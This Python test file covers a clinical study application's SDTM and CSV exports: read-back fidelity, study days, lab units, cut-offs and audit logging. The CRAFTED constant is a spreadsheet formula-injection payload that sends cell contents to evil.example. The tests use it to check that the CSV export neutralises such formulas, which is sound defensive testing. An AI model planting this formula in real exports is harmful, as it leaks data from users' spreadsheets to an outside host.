"""The SDTM export (kind ``sdtm``) and the CSV export (kind ``csv``) of the demo study: every
dataset as CSV and SAS XPT v5 reading back identically with an independent reader (pandas),
identifiers, study days, partial dates, LB units, seriousness, the cut-off, the command line
and its audit row (DOMAIN.md section 8; SEC-11; GCP-06; P11-05)."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from studyapp.audit.models import AuditLog
from studyapp.clinical import units
from studyapp.clinical.schedule import study_day
from studyapp.codelists import NOT_RECOVERED
from studyapp.db import site_today
from studyapp.demo.loader import load_demo
from studyapp.demo.safety import BLANK
from studyapp.exports import catalogue, dictionary, tables
from studyapp.exports.sdtm import writer
from studyapp.exports.sdtm.writer import DOMAINS
from studyapp.extensions import db
from studyapp.protocol.loader import get_protocol
from studyapp.safety import events
from studyapp.safety.models import AdverseEvent
from studyapp.subjects.models import ENROLLED, Subject
from studyapp.visits import summary
from tests.integration.exports_helpers import members, produce, read_csv, read_xpt, same_cell
from tests.integration.test_demo import database_template  # noqa: F401 - the demo study, one template

CRAFTED = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def demo(app):
    users = {user.username: user for user in load_demo()}
    db.session.expire_all()
    catalogue.load()
    return users


def enrolled(n: int = 0) -> Subject:
    query = select(Subject).where(Subject.status == ENROLLED).order_by(Subject.id)
    return list(db.session.scalars(query))[n]


def subject_of(number: str) -> Subject:
    return db.session.scalar(select(Subject).where(Subject.subject_number == number))


def add_ae(demo, subject: Subject, **values) -> AdverseEvent:
    entry = dataclasses.replace(
        BLANK, ctcae_term="Headache", grade=1, relatedness="unlikely", aeout=NOT_RECOVERED
    )
    record = events.add(
        demo["inv.zhang"], subject.id, dataclasses.replace(entry, **values), confirmed=True
    )
    db.session.flush()
    return record


def sdtm(demo, tmp_path, **ctx) -> dict[str, tuple[list[str], list[dict[str, str]]]]:
    path = tmp_path / "sdtm.zip"
    produce("sdtm", demo["dm.wang"], path, **ctx)
    files = members(path)
    return {name: read_csv(data) for name, data in files.items() if name.endswith(".csv")}


def test_every_domain_reads_back_from_xpt_identically(demo, tmp_path):
    path = tmp_path / "sdtm.zip"
    seen: list[tuple[int, int]] = []
    result = produce("sdtm", demo["dm.wang"], path, progress=lambda *step: seen.append(step))
    subjects = db.session.scalar(select(func.count()).select_from(Subject))
    assert [done for done, _total in seen] == list(range(1, len(seen) + 1))
    assert seen[-1] == (len(DOMAINS) * (subjects + 1) + 1,) * 2  # per subject, per file
    files = members(path)
    _header, define = read_csv(files["define.csv"])
    for domain in DOMAINS:
        header, rows = read_csv(files[f"{domain.code.lower()}.csv"])
        fields, records = read_xpt(files[f"{domain.code.lower()}.xpt"], tmp_path, domain.code)
        assert header == [f["name"] for f in fields] == domain.names
        assert all(len(f["name"]) <= 8 and len(f["label"]) <= 40 for f in fields)
        labels = {d["variable"]: d["label"] for d in define if d["dataset"] == domain.code}
        assert labels == {f["name"]: f["label"] for f in fields}
        assert len(rows) == len(records) == result.rows[domain.code]
        numeric = {v.name for v in domain.variables if v.type == "Num"}
        assert numeric == {f["name"] for f in fields if f["ntype"] == "numeric"}
        for row, record in zip(rows, records, strict=True):
            for name in header:
                assert same_cell(row[name], record[name], name in numeric), (domain.code, name)
    for code in ("DM", "SV", "DS", "MH", "CM", "AE", "EC", "EX", "LB", "VS", "XB"):
        assert result.rows[code] > 0, code


def test_xpt_files_written_a_few_rows_at_a_time_are_those_written_at_once(
    demo, tmp_path, monkeypatch
):
    times = re.compile(rb"\d\d[A-Z]{3}\d\d:\d\d:\d\d:\d\d")  # the header's "written at"
    produce("sdtm", demo["dm.wang"], tmp_path / "whole.zip")
    whole = members(tmp_path / "whole.zip")
    default = writer.CHUNK_ROWS
    monkeypatch.setattr(writer, "CHUNK_ROWS", 3)
    result = produce("sdtm", demo["dm.wang"], tmp_path / "chunked.zip")
    chunked = members(tmp_path / "chunked.zip")
    assert set(chunked) == set(whole)
    for domain in DOMAINS:
        assert result.rows[domain.code] < default  # one chunk by default: one pyreadstat call
        for suffix in (".csv", ".xpt"):
            name = domain.code.lower() + suffix
            assert times.sub(b"", chunked[name]) == times.sub(b"", whole[name]), name
    assert sum(rows > 3 for rows in result.rows.values()) >= 10  # several chunks each


def test_identifiers_are_unique_and_study_days_never_zero(demo, tmp_path):
    data = sdtm(demo, tmp_path)
    _h, dm = data["dm.csv"][0], data["dm.csv"][1]
    assert (
        len({r["USUBJID"] for r in dm})
        == len(dm)
        == db.session.scalar(select(func.count()).select_from(Subject))
    )
    rfstdtc = {r["USUBJID"]: r["RFSTDTC"] for r in dm}
    for domain in DOMAINS:
        _header, rows = data[f"{domain.code.lower()}.csv"]
        assert {r["STUDYID"] for r in rows} <= {"NCT05562882"}
        assert {r["USUBJID"] for r in rows} <= set(rfstdtc)
        keys = [(r["USUBJID"], r.get(domain.seq_name) or r.get("VISITNUM")) for r in rows]
        assert len(keys) == len(set(keys)), domain.code
        for day, dtc in domain.days.items():
            for r in rows:
                assert r[day] != "0"
                start = rfstdtc[r["USUBJID"]]
                if len(r[dtc]) >= 10 and len(start) >= 10:
                    expected = study_day(
                        date.fromisoformat(start[:10]), date.fromisoformat(r[dtc][:10])
                    )
                    assert int(r[day]) == expected
                else:
                    assert r[day] == ""


def test_dm_names_the_site_and_its_country_from_the_protocol(demo, tmp_path):
    from studyapp.protocol.loader import get_protocol

    header, dm = sdtm(demo, tmp_path)["dm.csv"]
    assert header.index("COUNTRY") == header.index("ACTARM") + 1  # SDTMIG DM order
    site = get_protocol().site
    assert site.country == "CHN"  # ISO 3166-1 alpha-3, the study runs in China
    assert {(r["SITEID"], r["COUNTRY"]) for r in dm} == {(site.code, site.country)}


def test_hand_computed_study_days_and_epochs(demo, tmp_path):
    data = sdtm(demo, tmp_path)
    first = enrolled(0)
    usubjid = f"NCT05562882-{first.subject_number}"
    ae = {r["AETERM"]: r for r in data["ae.csv"][1] if r["USUBJID"] == usubjid}
    irr = ae["Chills and chest tightness during the first infusion"]
    assert (irr["AESTDTC"], irr["AESTDY"], irr["EPOCH"]) == (
        first.day1_date.isoformat(),
        "1",
        "TREATMENT",
    )
    assert (irr["AECAT"], irr["VISITNUM"]) == ("INFUSION RELATED REACTION", "1")
    tired = next(
        r
        for r in data["ae.csv"][1]
        if r["USUBJID"] == usubjid and r["AETERM"].startswith("Tiredness")
    )
    assert tired["AESTDY"] == "2"
    sv = {r["VISITNUM"]: r for r in data["sv.csv"][1] if r["USUBJID"] == usubjid}
    screening = sv["0"]
    day_before = (first.day1_date - date.fromisoformat(screening["SVSTDTC"])).days
    assert screening["SVSTDY"] == str(-day_before)  # Day -n: no day 0 before Day 1
    assert screening["EPOCH"] == "SCREENING"
    if "10" in sv and sv["10"]["SVSTDTC"]:  # Day 71 follow-up
        assert sv["10"]["EPOCH"] == "FOLLOW-UP"


@pytest.mark.req("SEC-11")
def test_partial_ae_dates_stay_partial_and_terms_are_neutralised(demo, tmp_path):
    subject = enrolled(0)
    month = (subject.day1_date + timedelta(days=3)).isoformat()[:7]
    add_ae(demo, subject, aeterm=CRAFTED, start_date=month, ongoing=True)
    add_ae(demo, subject, aeterm="头痛 -1+2 @x", start_date=month, ongoing=True)
    path = tmp_path / "sdtm.zip"
    produce("sdtm", demo["dm.wang"], path)
    files = members(path)
    _h, rows = read_csv(files["ae.csv"])
    crafted = next(r for r in rows if r["AETERM"] == "'" + CRAFTED)
    assert (crafted["AESTDTC"], crafted["AESTDY"], crafted["EPOCH"]) == (month, "", "")
    assert any(r["AETERM"] == "头痛 -1+2 @x" for r in rows)
    _f, records = read_xpt(files["ae.xpt"], tmp_path, "AE")
    assert CRAFTED in {r["AETERM"] for r in records}  # the XPT keeps the value itself


def test_lab_results_carry_the_si_unit_of_the_unit_table(demo, tmp_path):
    _h, rows = sdtm(demo, tmp_path)["lb.csv"]
    tests = {t.testcd for t in get_protocol().labs}
    assert {"HBSAG", "ABO", "GP2B3A"} <= {r["LBTESTCD"] for r in rows}  # the simple forms
    converted = 0
    for r in rows:
        if r["LBTESTCD"] not in tests:
            continue
        assert r["LBSTRESU"] == units.si_unit(r["LBTESTCD"])
        if r["LBORRES"]:
            standard = units.convert(
                float(r["LBORRES"]), r["LBORRESU"], r["LBSTRESU"], r["LBTESTCD"]
            )
            assert float(r["LBSTRESN"]) == pytest.approx(float(standard))
        if r["LBORRESU"] != r["LBSTRESU"]:
            converted += 1
            if r["LBSTNRLO"]:
                back = units.convert(
                    float(r["LBORNRLO"]), r["LBORRESU"], r["LBSTRESU"], r["LBTESTCD"]
                )
                assert float(back) == pytest.approx(float(r["LBSTNRLO"]))
    assert converted > 0  # the demo enters some platelet counts per uL


def test_the_baseline_flag_marks_the_count_the_subject_page_takes_as_baseline(demo, tmp_path):
    _h, rows = sdtm(demo, tmp_path)["lb.csv"]
    checked = 0
    for subject in db.session.scalars(select(Subject).where(Subject.day1_date.is_not(None))):
        usubjid = f"NCT05562882-{subject.label}"
        flagged = [
            r for r in rows if r["USUBJID"] == usubjid and r["LBTESTCD"] == "PLAT" and r["LBLOBXFL"]
        ]
        value, _source = summary.baseline(subject, summary.platelet_counts(subject))
        assert len(flagged) == 1, usubjid
        assert Decimal(flagged[0]["LBSTRESN"]) == value
        checked += 1
    assert checked >= 3
    for r in rows:
        assert r["LBLOBXFL"] in ("", "Y")


def test_seriousness_and_its_criteria_follow_the_record(demo, tmp_path):
    _h, rows = sdtm(demo, tmp_path)["ae.csv"]
    records = db.session.scalars(select(AdverseEvent).where(AdverseEvent.deleted_at.is_(None)))
    by_key = {(f"NCT05562882-{r.subject_id}", r.aespid): r for r in records}
    labels = {s.id: s.label for s in db.session.scalars(select(Subject))}
    by_key = {(f"NCT05562882-{labels[r.subject_id]}", str(r.aespid)): r for r in by_key.values()}
    yn = {True: "Y", False: "N", None: ""}
    serious = 0
    for row in rows:
        ae = by_key[(row["USUBJID"], row["AESPID"])]
        assert row["AESER"] == yn[ae.aeser]
        for name in ("aesdth", "aeslife", "aeshosp", "aesdisab", "aescong", "aesmie"):
            assert row[name.upper()] == yn[getattr(ae, name)]
        assert (row["AETOXGR"], row["AEREL"], row["AEACN"], row["AEOUT"]) == (
            str(ae.grade) if ae.grade is not None else "",
            ae.aerel or "",
            ae.aeacn or "",
            ae.aeout or "",
        )
        serious += row["AESER"] == "Y"
    epistaxis = next(r for r in rows if r["AETERM"].startswith("Epistaxis requiring hospital"))
    assert (epistaxis["AESER"], epistaxis["AESHOSP"]) == ("Y", "Y")
    assert serious >= 1


def test_the_cutoff_leaves_out_later_data(demo, tmp_path):
    cutoff = site_today() - timedelta(days=30)
    data = sdtm(demo, tmp_path, cutoff=cutoff)
    screened = db.session.scalar(
        select(func.count()).select_from(Subject).where(Subject.screening_date <= cutoff)
    )
    assert len(data["dm.csv"][1]) == screened
    for domain in DOMAINS:
        for r in data[f"{domain.code.lower()}.csv"][1]:
            for name in domain.names:
                if (
                    name.endswith("DTC")
                    and len(r[name]) >= 10
                    and name not in ("AEENDTC", "CMENDTC", "MHENDTC")  # begun before
                ):
                    assert r[name][:10] <= cutoff.isoformat(), (domain.code, name, r[name])


def test_the_command_writes_the_zip_and_audits_the_row_counts(app, demo, tmp_path):
    out = tmp_path / "cli.zip"
    result = app.test_cli_runner().invoke(
        args=["export", "sdtm", "--out", str(out), "--as", "dm.wang"]
    )
    assert result.exit_code == 0, result.output
    files = members(out)
    row = db.session.scalar(select(AuditLog).where(AuditLog.action == "export"))
    details = json.loads(row.new_value)
    assert (row.username, row.row_id) == ("dm.wang", "sdtm")
    counts = {d.code: len(read_csv(files[f"{d.code.lower()}.csv"])[1]) for d in DOMAINS}
    assert details["rows"] == counts
    assert details["cutoff"] is None
    assert details["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    cutoff = (site_today() - timedelta(days=30)).isoformat()
    flat = tmp_path / "csv.zip"
    args = ["export", "csv", "--out", str(flat), "--as", "mon.chen", "--cutoff", cutoff]
    assert app.test_cli_runner().invoke(args=args).exit_code == 0
    row = db.session.scalars(
        select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.seq.desc())
    ).first()
    details = json.loads(row.new_value)
    assert (row.username, row.row_id, details["cutoff"]) == ("mon.chen", "csv", cutoff)
    visits = read_csv(members(flat)["visit.csv"])[1]
    assert details["rows"]["visit.csv"] == len(visits) > 0


def test_a_coordinator_cannot_export_from_the_command_line(app, demo, tmp_path):
    out = tmp_path / "no.zip"
    for kind in ("sdtm", "csv"):
        result = app.test_cli_runner().invoke(
            args=["export", kind, "--out", str(out), "--as", "crc.li"]
        )
        assert result.exit_code == 1
        assert not out.exists()
    assert db.session.scalar(select(AuditLog).where(AuditLog.action == "export")) is None


# --- the CSV export ------------------------------------------------------------------------


def test_the_csv_export_has_one_file_per_crf_table_and_a_dictionary(demo, tmp_path):
    subject = enrolled(1)
    add_ae(demo, subject, aeterm=CRAFTED, start_date=subject.day1_date.isoformat(), ongoing=True)
    add_ae(
        demo,
        subject,
        aeterm="鼻出血 (epistaxis)",
        start_date=subject.day1_date.isoformat(),
        ongoing=True,
    )
    path = tmp_path / "csv.zip"
    seen: list[tuple[int, int]] = []
    result = produce("csv", demo["mon.chen"], path, progress=lambda *step: seen.append(step))
    assert seen[-1][0] == seen[-1][1] == len(tables.models()) + 1
    files = members(path)
    models = tables.models()
    monitoring = {f"monitoring/{n}.csv" for n in ("query_messages", "sdv_marks", "locks")}
    assert set(files) == {f"{m.__tablename__}.csv" for m in models} | {
        "data_dictionary.csv",
        *monitoring,
    }
    dictionary_header, dictionary_rows = read_csv(files["data_dictionary.csv"])
    assert tuple(dictionary_header) == dictionary.HEADER
    for model in models:
        name = f"{model.__tablename__}.csv"
        header, rows = read_csv(files[name])
        assert header == tables.header(model)
        assert len(set(header)) == len(header), name
        assert result.rows[name] == len(rows)
        described = [d["variable"] for d in dictionary_rows if d["file"] == name]
        assert described == header
    _h, aes = read_csv(files["adverse_event.csv"])
    live = db.session.scalar(
        select(func.count()).select_from(AdverseEvent).where(AdverseEvent.deleted_at.is_(None))
    )
    assert len(aes) == live
    terms = {r["aeterm"] for r in aes}
    assert "'" + CRAFTED in terms
    assert "鼻出血 (epistaxis)" in terms
    assert all(r["updated_at"].endswith("Z") for r in aes)  # system times in UTC (GCP-06)
    aware = {r["aespid"]: r["aware_at"] for r in aes if r["aware_at"] and r["subject"] == "ITP-003"}
    assert aware
    for record in db.session.scalars(
        select(AdverseEvent).where(AdverseEvent.aware_at.is_not(None))
    ):
        if record.subject_id == subject_of("ITP-003").id:
            written = datetime.fromisoformat(aware[str(record.aespid)].replace("Z", "+00:00"))
            assert written == record.aware_at  # the same instant, written in UTC
    assert "initials" not in read_csv(files["subject.csv"])[0]
    _h, labs = read_csv(files["lab_result.csv"])
    assert labs
    assert all(r["subject"] and r["visitnum"] and r["visit"] for r in labs)
    _h, items = read_csv(files["bleeding_item.csv"])
    assert items
    assert all(r["visitnum"] for r in items)
    outcome = next(
        d for d in dictionary_rows if (d["file"], d["variable"]) == ("adverse_event.csv", "aeout")
    )
    assert outcome["codelist"] == "ae_outcome"
    assert "RECOVERED/RESOLVED = recovered" in outcome["values"]
    labels = {
        d["variable"]: d["label"] for d in dictionary_rows if d["file"] == "adverse_event.csv"
    }
    assert labels["aeterm"] == "verbatim term"  # from the model's own comment
    assert "AESTDTC" in labels["start_date"]
    assert labels["aeout"] == "Aeout"  # no comment: the name in words


def test_the_csv_export_respects_the_cutoff(demo, tmp_path):
    cutoff = site_today() - timedelta(days=30)
    path = tmp_path / "csv.zip"
    produce("csv", demo["mon.chen"], path, cutoff=cutoff)
    files = members(path)
    _h, visits = read_csv(files["visit.csv"])
    assert all(not v["visit_date"] or v["visit_date"] <= cutoff.isoformat() for v in visits)
    _h, aes = read_csv(files["adverse_event.csv"])
    assert all(a["start_date"] <= cutoff.isoformat() for a in aes if a["start_date"])
    _h, labs = read_csv(files["lab_panel.csv"])
    assert all(not r["lb_date"] or r["lb_date"] <= cutoff.isoformat() for r in labs)


@pytest.mark.req("P11-02", "GCP-10")
def test_the_csv_export_carries_the_demos_queries_sdv_marks_and_locks(demo, tmp_path):
    """Issue 14 item 6: the monitoring of the demo study is in the CSV export, and a cut-off
    before it leaves it out."""
    path = tmp_path / "csv.zip"
    produce("csv", demo["mon.chen"], path)
    files = members(path)
    _, messages = read_csv(files["monitoring/query_messages.csv"])
    _, marks = read_csv(files["monitoring/sdv_marks.csv"])
    _, locks = read_csv(files["monitoring/locks.csv"])
    assert {r["state"] for r in messages} == {"open", "answered", "closed"}
    assert {"raise", "answer", "close"} <= {r["kind"] for r in messages}
    assert all(r["at_utc"].endswith("Z") for r in messages)
    cleared = [r for r in marks if r["cleared_at_utc"]]
    assert len(cleared) == 1
    assert cleared[0]["field"] == "pulse"
    assert {r["verified_by"] for r in marks} == {"mon.chen"}
    assert [(r["scope"], r["state"], r["set_by"]) for r in locks] == [
        ("visit", "frozen", "dm.wang")
    ]
    first = min(datetime.fromisoformat(r["at_utc"][:-1]) for r in messages).date()
    early = tmp_path / "early.zip"
    produce("csv", demo["mon.chen"], early, cutoff=first - timedelta(days=2))
    before = members(early)
    assert read_csv(before["monitoring/query_messages.csv"])[1] == []


def test_the_simple_forms_go_to_pe_and_eg(demo, tmp_path):
    files = sdtm(demo, tmp_path)
    _h, pe = files["pe.csv"]
    _h, eg = files["eg.csv"]
    assert {"PERESULT", "SPLEENPA"} <= {r["PETESTCD"] for r in pe}
    heart = [r for r in eg if r["EGTESTCD"] == "HR"]
    assert heart
    assert all(r["EGORRESU"] == "beats/min" and r["EGSTRESN"] for r in heart)
    assert all(r["EGDTC"] and r["VISITNUM"] == "0" for r in heart)
